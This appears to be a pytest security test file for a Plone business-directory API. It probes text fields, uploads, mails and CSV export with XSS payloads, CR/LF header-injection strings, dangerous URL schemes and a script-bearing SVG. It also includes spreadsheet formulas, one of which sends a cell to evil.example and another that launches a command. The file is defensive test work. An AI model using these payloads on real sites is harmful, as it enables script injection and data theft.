"""Hostile text through every form the earlier issues opened, over the REST
API of the real site (spec §6.3): script tags, event handlers,
``javascript:`` links, SVG, template and formula injection, CR/LF aimed at
headers.

What must hold everywhere:

- answers are JSON (``application/json``, ``nosniff``, ``default-src
  'none'``): a browser never renders them as a page;
- text is kept and returned exactly as typed (escaping is the renderer's
  job: React, text mails, CSV quoting), never half-sanitised;
- a one-line field refuses line breaks; a web address refuses every scheme
  but http(s);
- no header of any answer or mail carries injected text;
- none of our content types has a rich-text (HTML) field to sanitise;
- a CSV cell never starts a spreadsheet formula;
- an uploaded SVG cannot run script when opened from the site.
"""

from email.message import EmailMessage
from oif.tremplin.accounts.validation import COMPANY_FIELDS
from oif.tremplin.core import audit
from oif.tremplin.security.captcha.testing import solved_captcha
from oif.tremplin.security.headers.policy import API_CSP
from plone import api
from plone.app.textfield import RichText
from zope.schema import getFieldsInOrder

import base64
import csv
import io
import json
import pytest
import re
import transaction


AWA = "/fr/entreprises/delices-tropicaux-du-senegal"
PASSWORD = "Tremplin-Corpus-2026!"

# One line each: they fit a TextLine.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    "<svg/onload=window.__xss=1>",
    '<a href="javascript:window.__xss=1">lien</a>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    "' onmouseover='window.__xss=1' x='",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${7*7}<%= 7*7 %>",
    "Robert'); DROP TABLE members;--",
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "\u202egnp.exe <b>ÉÀ漢字</b> 🙂",
]
# Several lines: only Text fields take them.
MULTILINE = [
    "ligne\r\nSet-Cookie: pwned=1",
    "x\r\n\r\n<script>window.__xss=1</script>",
    "x\nBcc: victim@example.org\nSubject: pwned",
]
BAD_URLS = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "javascript://example.org/%0Awindow.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
]
SAFE_DISPOSITION = re.compile(
    r"(attachment|inline); filename\*=UTF-8''[A-Za-z0-9%._~!*'()-]*"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTED = re.compile(r"pwned|victim@|window\.__xss", re.IGNORECASE)

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1">'
    b"<script>window.__xss=1</script><circle r='4'/></svg>"
)


def assert_json_answer(response):
    """A JSON answer no browser renders, with no injected header."""
    assert response.headers["Content-Type"].startswith("application/json"), (
        response.headers
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == API_CSP
    assert_clean_headers(response.headers)
    return response


def assert_clean_headers(headers):
    for name, value in headers.items():
        assert not INJECTED.search(name), name
        assert "\r" not in value and "\n" not in value
        if name.lower() == "content-disposition":
            # The name typed by the uploader, percent-encoded (RFC 6266):
            # one parameter, nothing that closes it.
            assert SAFE_DISPOSITION.fullmatch(value), value
        elif name.lower() != "link":
            assert not INJECTED.search(value), (name, value)


def assert_clean_mail(mail: EmailMessage):
    for name, value in mail.items():
        assert name.lower() not in {"set-cookie", "bcc"}, name
        assert "\n" not in str(value).strip() or name.lower() == "received"
    assert "victim@example.org" not in (mail["To"] or "")
    assert mail.get_content_type() in {"text/plain", "multipart/alternative"}
    for part in mail.walk():
        assert part.get_content_type() != "text/html", "mails are plain text"


def field_errors(response) -> dict:
    assert response.status_code == 400, response.text
    assert_json_answer(response)
    return {e["field"]: e["message"] for e in json.loads(response.json()["message"])}


# --- Company, by her representative ------------------------------------------


class TestCompany:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_text_is_kept_as_typed(self, functional_portal, member_session, payload):
        awa = member_session("awa")
        change = {
            "city": payload,
            "description": payload,
            "goals": payload,
            "products": [{"name": payload, "description": payload}],
            "missions": [{"year": 2024, "name": payload, "destination": payload}],
        }
        response = awa.patch(AWA, json=change)
        assert response.status_code == 204, response.text
        assert_clean_headers(response.headers)
        data = assert_json_answer(awa.get(AWA)).json()
        assert data["city"] == payload
        assert data["description"] == payload
        assert data["goals"] == payload
        assert data["products"] == [
            {"name": payload, "description": payload, "hs_code": None}
        ]
        assert data["missions"] == [
            {"year": 2024, "name": payload, "destination": payload}
        ]

    @pytest.mark.parametrize("payload", MULTILINE)
    def test_multiline_text(self, functional_portal, member_session, payload):
        awa = member_session("awa")
        response = awa.patch(AWA, json={"goals": payload, "description": payload})
        assert response.status_code == 204, response.text
        assert_clean_headers(response.headers)
        data = assert_json_answer(awa.get(AWA)).json()
        assert (data["goals"], data["description"]) == (payload, payload)

    @pytest.mark.parametrize("payload", MULTILINE)
    def test_one_line_fields_refuse_line_breaks(
        self, functional_portal, member_session, payload
    ):
        awa = member_session("awa")
        response = awa.patch(AWA, json={"city": payload})
        assert "city" in field_errors(response)
        assert awa.get(AWA).json()["city"] == "Dakar"

    @pytest.mark.parametrize("url", BAD_URLS)
    def test_web_addresses_refuse_other_schemes(
        self, functional_portal, member_session, url
    ):
        awa = member_session("awa")
        assert "website" in field_errors(awa.patch(AWA, json={"website": url}))
        assert "video_links" in field_errors(
            awa.patch(AWA, json={"video_links": [url]})
        )
        data = awa.get(AWA).json()
        assert data["website"] == "https://delices-tropicaux.example.org"
        assert data["video_links"] == [
            "https://video.example.org/delices-tropicaux-presentation"
        ]

    def test_svg_image_runs_nothing(self, functional_portal, member_session):
        """An SVG with script, put in her company as an image and as her
        logo: opened directly, the browser may not run it."""
        awa = member_session("awa")
        svg = {
            "data": base64.b64encode(SVG).decode(),
            "encoding": "base64",
            "filename": "logo.svg",
            "content-type": "image/svg+xml",
        }
        added = awa.post(AWA, json={"@type": "Image", "title": "Logo", "image": svg})
        urls = []
        if added.status_code == 201:
            path = added.json()["@id"].split("/plone", 1)[1]
            urls += [f"{path}/@@images/image", f"{path}/@@download/image"]
        else:
            field_errors(added)
        logo = awa.patch(AWA, json={"logo": svg})
        if logo.status_code == 204:
            urls += [f"{AWA}/@@images/logo", f"{AWA}/@@download/logo"]
        else:
            field_errors(logo)
        assert urls, "neither upload was kept: nothing to open"
        for url in urls:
            response = awa.get(url)
            if response.status_code != 200:
                continue
            headers = response.headers
            assert headers["X-Content-Type-Options"] == "nosniff"
            csp = headers["Content-Security-Policy"]
            assert "default-src 'none'" in csp or "sandbox" in csp, (url, csp)
            assert "'unsafe-inline'" not in csp
            assert headers["Content-Disposition"].startswith("attachment")
            assert_clean_headers(headers)


def test_no_rich_text_fields():
    """Nothing of ours takes HTML: there is nothing to sanitise, and every
    text comes back as the plain text it is."""
    from oif.tremplin.companies.content import ICompany
    from oif.tremplin.experts.content import IExpert
    from oif.tremplin.verification.content import IVerificationDocument

    for schema in (ICompany, IExpert, IVerificationDocument):
        for name, field in getFieldsInOrder(schema):
            assert not isinstance(field, RichText), f"{schema.__name__}.{name}"


# --- Registration: account, company, expert -----------------------------------

TOKEN = re.compile(r"/register/confirm\?token=(\S+)")


def company_registration(**changes) -> dict:
    body = {
        "fullname": "Mariama SOW",
        "email": "mariama.sow@example.org",
        "password": PASSWORD,
        "language": "fr",
        "kind": "company",
        "company": {
            "title": "Saveurs du Sahel",
            "country": "SN",
            "registration_number": "SN-DKR-2025-B-77001",
            "city": "Thiès",
            "sectors": ["agrifood"],
            "size_band": "micro",
            "experience_level": "primo_exporter",
        },
        "consents": {"terms": True, "privacy": True},
    }
    body.update(changes)
    return body


def expert_registration(**changes) -> dict:
    body = company_registration(
        fullname="Ousmane FALL", email="ousmane.fall@example.org", kind="expert"
    )
    del body["company"]
    body["expert"] = {
        "expertise_areas": ["customs"],
        "countries": ["SN"],
        "languages": ["fr"],
        "bio": "Vingt ans de transit.",
        "availability": "limited",
    }
    body.update(changes)
    return body


@pytest.fixture
def register(anon_request, inbox, cheap_captcha):
    """Register, then confirm from the mail; returns (answer, profile path)."""

    def run(body):
        body = {"captcha": solved_captcha(anon_request), **body}
        response = anon_request.post("/@tremplin-registration", json=body)
        assert_json_answer(response)
        if response.status_code != 201:
            return response, None
        [mail] = inbox.to(body["email"])
        assert_clean_mail(mail)
        token = TOKEN.search(mail.get_body().get_content()).group(1)
        confirmed = anon_request.post(
            "/@tremplin-registration-confirm", json={"token": token}
        )
        assert confirmed.status_code == 200, confirmed.text
        assert_json_answer(confirmed)
        return response, confirmed.json()["profile"].split("/plone", 1)[1]

    return run


class TestRegistration:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_company(self, functional_portal, register, request_factory, payload):
        company = company_registration()["company"]
        body = company_registration(
            fullname=payload[:100],
            company={**company, "title": payload, "city": payload},
        )
        response, path = register(body)
        assert response.status_code == 201, response.text
        owner = request_factory(basic_auth=(body["email"], PASSWORD))
        data = assert_json_answer(owner.get(path)).json()
        assert (data["title"], data["city"]) == (payload, payload)
        transaction.begin()
        [found] = functional_portal.acl_users.searchUsers(
            login=body["email"], exact_match=True
        )
        me = assert_json_answer(owner.get(f"/@users/{found['userid']}")).json()
        assert me["fullname"] == payload[:100]

    @pytest.mark.parametrize("payload", PAYLOADS[:4] + MULTILINE)
    def test_expert(self, register, request_factory, payload):
        fullname = payload.splitlines()[0][:100] or "x"
        body = expert_registration(fullname=fullname)
        body["expert"]["bio"] = payload
        response, path = register(body)
        assert response.status_code == 201, response.text
        owner = request_factory(basic_auth=(body["email"], PASSWORD))
        data = assert_json_answer(owner.get(path)).json()
        assert (data["title"], data["bio"]) == (fullname, payload)

    @pytest.mark.parametrize("payload", MULTILINE)
    @pytest.mark.parametrize("field", ["fullname", "email"])
    def test_header_injection_refused(self, register, inbox, field, payload):
        body = company_registration(**{field: f"mariama.sow@example.org{payload}"})
        response, _ = register(body)
        assert field in field_errors(response)
        assert inbox.messages == []

    @pytest.mark.parametrize("field", list(COMPANY_FIELDS)[:4])
    def test_company_line_fields_refuse_line_breaks(self, register, field):
        body = company_registration()
        if field == "country":
            body["company"]["country"] = "SN\r\nSet-Cookie: pwned=1"
        else:
            body["company"][field] = "x\r\nSet-Cookie: pwned=1"
        response, _ = register(body)
        assert f"company.{field}" in field_errors(response) or field in field_errors(
            response
        )


# --- Verification documents -------------------------------------------------


class TestVerificationDocument:
    @pytest.mark.parametrize(
        "filename",
        [
            '"><svg onload=window.__xss=1>.pdf',
            "rccm.pdf\r\nSet-Cookie: pwned=1",
            "rccm\"; filename*=UTF-8''pwned.html",
        ],
    )
    def test_names_and_texts(self, functional_portal, member_session, filename):
        awa = member_session("awa")
        payload = PAYLOADS[0]
        response = awa.post(
            AWA,
            json={
                "@type": "VerificationDocument",
                "title": payload,
                "document_kind": "register_extract",
                "file": {
                    "data": base64.b64encode(b"%PDF-1.4 corpus").decode(),
                    "encoding": "base64",
                    "filename": filename,
                    "content-type": "application/pdf",
                },
            },
        )
        assert_json_answer(response)
        if response.status_code != 201:
            field_errors(response)
            return
        path = response.json()["@id"].split("/plone", 1)[1]
        data = assert_json_answer(awa.get(path)).json()
        assert data["title"] == payload
        download = awa.get(f"{path}/@@download/file")
        assert download.status_code == 200
        assert download.content == b"%PDF-1.4 corpus"
        assert_clean_headers(download.headers)
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert download.headers["Content-Type"] == "application/pdf"
        assert download.headers["Content-Disposition"].startswith("attachment")


# --- Moderation: the decision message -----------------------------------------


@pytest.fixture
def in_review(functional_portal):
    profile = functional_portal.unrestrictedTraverse(AWA.lstrip("/"))
    with api.env.adopt_roles(["Manager"]):
        for transition in ("retract", "submit", "start_review"):
            api.content.transition(obj=profile, transition=transition, comment="x")
    transaction.commit()
    return AWA


@pytest.mark.parametrize("message", [PAYLOADS[0], PAYLOADS[9], *MULTILINE])
def test_decision_message(in_review, oif_session, inbox, message):
    moderator = oif_session("moderateur")
    response = moderator.post(
        f"{AWA}/@tremplin-review",
        json={"action": "request_documents", "message": message},
    )
    assert response.status_code == 200, response.text
    assert_json_answer(response)
    mails = inbox.to("awa.ndiaye@demo.tremplin.test")
    assert mails
    for mail in mails:
        assert_clean_mail(mail)
    body = mails[-1].get_body(("plain",)).get_content()
    assert message.replace("\r\n", "\n").splitlines()[0] in body
    queue = moderator.get("/@tremplin-review-queue")
    assert_json_answer(queue)


# --- Audit log and its CSV ----------------------------------------------------


def test_audit_csv_cells_never_start_a_formula(
    functional_portal, in_review, oif_session, member_session
):
    moderator = oif_session("moderateur")
    moderator.post(
        f"{AWA}/@tremplin-review",
        json={"action": "request_documents", "message": PAYLOADS[9]},
    )
    admin = oif_session("administrateur")
    granted = admin.post(
        f"{AWA}/@tremplin-temporary-access",
        json={
            "user": "ahmed",
            "role": "Reader",
            "end": "2099-01-01T00:00:00+00:00",
            "reason": "=1+1\r\n@SUM(A1)",
        },
    )
    assert_json_answer(granted)
    # Entries whose first columns hold text typed by someone: the target and
    # the actor are what a spreadsheet sees first.
    transaction.begin()
    for start in FORMULA_STARTS:
        audit.record("corpus.formula", f"{start}cmd|' /C calc'!A0", actor=f"{start}x")
    transaction.commit()
    response = admin.get("/@tremplin-audit", params={"format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) > len(FORMULA_STARTS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    texts = "\n".join(",".join(row) for row in rows)
    assert "'=cmd|" in texts
    assert "HYPERLINK" in texts
    listing = admin.get("/@tremplin-audit")
    assert_json_answer(listing)
